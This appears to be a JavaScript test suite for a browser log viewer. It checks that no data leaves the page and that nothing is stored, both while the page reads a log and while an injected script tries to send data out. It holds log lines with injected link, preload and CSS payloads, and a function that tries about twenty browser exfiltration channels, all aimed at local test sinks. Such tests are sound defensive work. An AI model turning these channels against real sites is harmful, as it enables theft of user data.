// The world outside, watched: sinks on loopback for TCP and UDP, the browser's own account of what page and
// workers ask for, what is stored; and the page on a machine without a network.

import test from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { createServer } from 'node:net';
import { createSocket } from 'node:dgram';
import { join } from 'node:path';

import { drop, launch, open, places } from '../lib/chromium.mjs';
import { root } from '../lib/program.mjs';

const CANARY = 'canary9b2e';
const heard = [];
const tcp = createServer((socket) => {
  heard.push('TCP');
  socket.on('data', (data) => heard.push(`TCP ${data}`));
  socket.on('error', () => {});
});
const udp = createSocket('udp4').on('message', () => heard.push('UDP'));
await new Promise((listening) => tcp.listen(0, '127.0.0.1', listening));
await new Promise((listening) => udp.bind(0, '127.0.0.1', listening));
const sinks = { tcp: `127.0.0.1:${tcp.address().port}`, udp: `127.0.0.1:${udp.address().port}` };

const browser = await launch();
const { list, close } = await places();
test.after(async () => {
  await browser.close();
  close();
  tcp.close();
  udp.close();
});

// The sinks' own addresses stand in the log as links and as hosts.
const LOG = [
  `Dec 10 06:55:46 ${CANARY}host sshd[24200]: Invalid user http://${sinks.tcp}/${CANARY} from 203.0.113.9`,
  `Dec 10 06:55:47 ${CANARY}host sshd[24200]: Invalid user <link rel=preload as=image href=//${sinks.tcp}/${CANARY}> from 203.0.113.9`,
  `127.0.0.1 - - [10/Dec/2025:06:56:01 +0900] "GET http://${sinks.tcp}/${CANARY} HTTP/1.1" 404 10 "http://${sinks.tcp}/" "url(//${sinks.tcp}/${CANARY})"`,
].join('\n');

for (const [place, address] of list) {
  test(`${place}: nobody outside hears of a log, and nothing of it is kept`, async () => {
    heard.length = 0;
    const { context, page } = await open(browser, address);
    const asked = await watch(context, page);
    assert.ok((await drop(page, [{ name: `${CANARY}.log`, text: LOG }])).includes(CANARY), 'the log was read');
    await page.waitForTimeout(300);
    assert.ok(asked.workers > 0, 'the workers were watched too');
    // On a host, the two files beside the page.
    const own = [address, `${address}manifest.webmanifest`, `${address}sw.js`];
    assert.deepEqual(asked.urls.filter((url) => !own.includes(url) && !/^(blob|data):/.test(url)), []);
    assert.deepEqual(heard, []);
    const kept = JSON.stringify([await page.evaluate(stored), await context.cookies(), await context.storageState({ indexedDB: true })]);
    assert.ok(!kept.includes(CANARY), kept);
    await context.close();
  });
}

// After the others, which would hear a connection that is opened late.
for (const [place, address] of list) {
  test(`${place}: what a script in the page tries does not arrive`, async () => {
    heard.length = 0;
    const { context, page, seen } = await open(browser, address);
    await page.evaluate(send, { ...sinks, canary: CANARY });
    // The policy speaks when it has refused; what it let through would arrive soon after.
    for (let at = 0; at < 100 && seen.broken.length <= 5; at += 1) await page.waitForTimeout(200);
    await page.waitForTimeout(500);
    // Chromium opens a connection for a frame or a form before it asks the policy, and then sends nothing on it:
    // see SECURITY.md.
    assert.deepEqual(heard.filter((word) => word !== 'TCP'), []);
    assert.ok(seen.broken.length > 5, `the policy is in force: ${seen.broken}`);
    await context.close();
  });
}

test('without a network: the same report', (t) => {
  const unshare = ['unshare', '--map-root-user', '--net'];
  if (spawnSync(unshare[0], [...unshare.slice(1), 'true']).status !== 0) {
    return t.skip('SKIPPED: this machine lets nobody make a namespace (unshare --net)');
  }
  const alone = join(import.meta.dirname, '../lib/alone.mjs');
  const file = join(root, 'tests/corpus/auth.log');
  const run = (words) => execFileSync(words[0], words.slice(1), { encoding: 'utf8', maxBuffer: 1 << 28 });
  const without = run([...unshare, process.execPath, alone, file]);
  assert.match(without, /^no network\n/);
  assert.equal(without.split('\n')[1], run([process.execPath, alone, file]).split('\n')[1]);
});

/** What the browser itself says that page and workers ask for. */
async function watch(context, page) {
  const asked = { urls: [], workers: 0 };
  const note = (method, { request }) => method === 'Network.requestWillBeSent' && asked.urls.push(request.url);
  const session = await context.newCDPSession(page);
  session.on('Network.requestWillBeSent', (event) => note('Network.requestWillBeSent', event));
  session.on('Target.attachedToTarget', ({ sessionId }) => {
    asked.workers += 1;
    const message = JSON.stringify({ id: 1, method: 'Network.enable' });
    session.send('Target.sendMessageToTarget', { sessionId, message }).catch(() => {});
  });
  session.on('Target.receivedMessageFromTarget', ({ message }) => {
    const { method, params } = JSON.parse(message);
    note(method, params ?? {});
  });
  await session.send('Network.enable');
  await session.send('Target.setAutoAttach', { autoAttach: true, waitForDebuggerOnStart: false, flatten: false });
  return asked;
}

/** In the page: all that a browser keeps for it. */
async function stored() {
  const safe = async (what) => { try { return await what(); } catch { return null; } };
  const folder = async () => {
    const names = [];
    for await (const name of (await navigator.storage.getDirectory()).keys()) names.push(name);
    return names;
  };
  return {
    local: await safe(() => ({ ...localStorage })),
    session: await safe(() => ({ ...sessionStorage })),
    databases: await safe(() => indexedDB.databases()),
    caches: await safe(() => caches.keys()),
    folder: await safe(folder),
    address: location.href,
    title: document.title,
    history: history.state,
    name: self.name,
  };
}

/** In the page: every way to say a word to somebody that a script has. */
function send({ tcp, udp, canary }) {
  const url = `http://${tcp}/${canary}`;
  const put = (name, attributes) => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) {
      try { element.setAttribute(key, value); } catch { /* a rule of the page */ }
    }
    document.body.append(element);
    return element;
  };
  const tries = [
    () => fetch(url, { mode: 'no-cors' }).catch(() => {}),
    () => { const request = new XMLHttpRequest(); request.open('POST', url); request.onerror = () => {}; request.send(canary); },
    () => navigator.sendBeacon(url, canary),
    () => new WebSocket(`ws://${tcp}/${canary}`),
    () => new EventSource(url),
    () => put('img', { src: url }),
    () => put('link', { rel: 'stylesheet', href: url }),
    () => put('link', { rel: 'preload', as: 'image', href: url }),
    () => put('link', { rel: 'prefetch', href: url }),
    () => put('script', { src: url }),
    () => put('iframe', { src: url }),
    () => put('object', { data: url }),
    () => put('video', { src: url }),
    () => put('form', { action: url, method: 'post' }).submit(),
    () => { const link = put('a', { href: '#', ping: url }); link.click(); },
    () => import(url).catch(() => {}),
    () => new Worker(url),
    () => new Worker(URL.createObjectURL(new Blob([`fetch('${url}')`]))),
    () => new RTCPeerConnection({ iceServers: [{ urls: `stun:${udp}` }] }).createDataChannel('x'),
    () => document.fonts.add(new FontFace('x', `url(${url})`)),
  ];
  for (const one of tries) {
    try { one(); } catch { /* refused: that is what is wanted */ }
  }
}
